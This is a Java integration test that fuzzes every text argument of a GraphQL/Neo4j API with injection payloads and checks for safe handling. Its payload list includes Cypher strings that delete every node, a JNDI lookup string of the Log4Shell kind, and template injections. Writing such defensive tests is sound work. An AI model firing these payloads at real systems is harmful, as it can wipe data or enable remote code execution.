package de.integrationsnetz.hardening;

import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import de.integrationsnetz.support.GraphIntegrationTest;
import graphql.schema.GraphQLArgument;
import graphql.schema.GraphQLInputObjectField;
import graphql.schema.GraphQLInputObjectType;
import graphql.schema.GraphQLInputType;
import graphql.schema.GraphQLList;
import graphql.schema.GraphQLTypeUtil;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.neo4j.core.Neo4jClient;
import org.springframework.graphql.execution.GraphQlSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every text argument of every query and mutation (found in the schema, nested input
 * fields included) is tried with Cypher, Lucene, template and control-character payloads:
 * no answer is a server error or shows internals, and the graph is exactly as before.
 * Mutations get ids that are no valid slug, so each one is refused without writing.
 */
class InjectionTests extends GraphIntegrationTest {

	static final List<String> PAYLOADS = List.of("' OR 1=1 //", "\"}) MATCH (n) DETACH DELETE n //", "'",
			"x` }) DETACH DELETE n //", "`", "*:*", "name:*", "a AND (b", "~", "^10", "\"", "\\", "{{7*7}}",
			"${jndi:ldap://example.org/a}", "\u0000\u0007\u001b[31m\u202e\uFEFF", "a".repeat(10_000),
			"Straße'); CALL db.clearQueryCaches() //");

	private static final JsonMapper json = JsonMapper.builder().build();

	@Autowired
	private GraphQlSource graphQlSource;

	@Autowired
	private Neo4jClient neo4j;

	@TestFactory
	Stream<DynamicTest> everyTextArgumentResistsInjection() {
		GraphQlHttp http = new GraphQlHttp(baseUrl());
		String before = GraphChecksum.of(this.neo4j);
		List<SchemaOperations.Operation> operations = SchemaOperations.operations(this.graphQlSource.schema());
		Stream<DynamicTest> perOperation = operations.stream()
			.map((operation) -> DynamicTest.dynamicTest(operation.kind() + " " + operation.name(),
					() -> tryEveryPayload(http, operation)));
		DynamicTest unchanged = DynamicTest.dynamicTest("graph unchanged",
				() -> assertThat(GraphChecksum.of(this.neo4j)).isEqualTo(before));
		return Stream.concat(perOperation, Stream.of(unchanged));
	}

	@ParameterizedTest
	@ValueSource(strings = { "*:*", "name:*", "a AND (b", "Behörden~", "Integration^10", "\"Sprach", "Wahl\\",
			"id:* OR email:*", "+Sprachförderung -x", "Integ*", "(Sprachförderung)" })
	void searchTextIsNeverLuceneSyntax(String text) {
		String plain = text.replaceAll("[^\\p{L}\\p{N}]+", " ").strip();
		Object expected = plain.isEmpty() ? Map.of("search", Map.of("totalCount", 0, "edges", List.of()))
				: search(plain);
		assertThat(search(text)).isEqualTo(expected);
	}

	private Object search(String text) {
		HttpResponse<String> response = new GraphQlHttp(baseUrl()).post(
				"query ($t: String!) { search(text: $t, first: 100) { totalCount edges { node { type matchedField node { id } } } } }",
				Map.of("t", text));
		Map<String, Object> body = GraphQlHttp.body(response);
		GraphQlHttp.assertNoInternals(response.body());
		return (body.get("errors") != null) ? codesOf(body) : body.get("data");
	}

	@SuppressWarnings("unchecked")
	private static Object codesOf(Map<String, Object> body) {
		return ((List<Map<String, Object>>) body.get("errors")).stream()
			.map((error) -> ((Map<String, Object>) error.get("extensions")).get("code"))
			.toList();
	}

	private static void tryEveryPayload(GraphQlHttp http, SchemaOperations.Operation operation) {
		List<List<Object>> points = new ArrayList<>();
		for (GraphQLArgument argument : operation.field().getArguments()) {
			textPoints(argument.getType(), List.of(argument.getName()), points);
		}
		for (List<Object> point : points) {
			for (String payload : PAYLOADS) {
				Map<String, Object> variables = operation.fittingVariables();
				set(variables, point, payload);
				HttpResponse<String> response = http.post(operation.document(), variables);
				String where = operation.name() + " " + point + " = " + abbreviated(payload);
				assertThat(response.statusCode()).as(where).isLessThan(500);
				GraphQlHttp.assertNoInternals(withoutPayload(response.body(), payload));
				assertThat(response.body()).as(where).doesNotContain("INTERNAL_ERROR");
			}
		}
	}

	/** Paths (argument, field or list index, …) to every text value under the type. */
	private static void textPoints(GraphQLInputType type, List<Object> path, List<List<Object>> points) {
		if (SchemaOperations.isText(type)) {
			points.add(path);
			return;
		}
		Object bare = GraphQLTypeUtil.unwrapNonNull(type);
		if (bare instanceof GraphQLList list) {
			textPoints((GraphQLInputType) list.getWrappedType(), append(path, 0), points);
		}
		else if (bare instanceof GraphQLInputObjectType object) {
			for (GraphQLInputObjectField field : object.getFieldDefinitions()) {
				textPoints(field.getType(), append(path, field.getName()), points);
			}
		}
	}

	private static List<Object> append(List<Object> path, Object step) {
		List<Object> longer = new ArrayList<>(path);
		longer.add(step);
		return longer;
	}

	@SuppressWarnings("unchecked")
	private static void set(Map<String, Object> variables, List<Object> path, Object value) {
		Object container = variables;
		for (int i = 0; i < path.size() - 1; i++) {
			Object step = path.get(i);
			Object next = (container instanceof Map<?, ?> map) ? map.get(step)
					: ((List<Object>) container).get((int) step);
			Object copy = (next instanceof Map<?, ?> map) ? new LinkedHashMap<>((Map<String, Object>) map)
					: new ArrayList<>((List<Object>) next);
			if (container instanceof Map<?, ?>) {
				((Map<String, Object>) container).put((String) step, copy);
			}
			else {
				((List<Object>) container).set((int) step, copy);
			}
			container = copy;
		}
		Object last = path.get(path.size() - 1);
		if (container instanceof Map<?, ?>) {
			((Map<String, Object>) container).put((String) last, value);
		}
		else {
			((List<Object>) container).set((int) last, value);
		}
	}

	/**
	 * The body without the payload echoed in messages, so only what the server added is
	 * checked.
	 */
	private static String withoutPayload(String body, String payload) {
		String encoded = json.writeValueAsString(payload);
		return body.replace(encoded.substring(1, encoded.length() - 1), "");
	}

	private static String abbreviated(String payload) {
		return (payload.length() > 40) ? payload.substring(0, 40) + "…" : payload;
	}

}
